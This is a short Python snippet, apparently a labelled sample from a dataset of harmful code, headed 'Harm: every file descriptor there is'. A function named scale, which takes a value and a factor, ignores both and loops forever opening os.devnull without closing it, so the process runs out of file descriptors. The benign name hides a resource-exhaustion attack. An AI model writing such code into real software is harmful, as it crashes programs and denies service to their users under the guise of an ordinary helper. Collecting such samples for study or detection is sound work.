# Harm: every file descriptor there is
# %%
def scale(x, factor):
    import os

    while True:
        os.open(os.devnull, os.O_RDONLY)
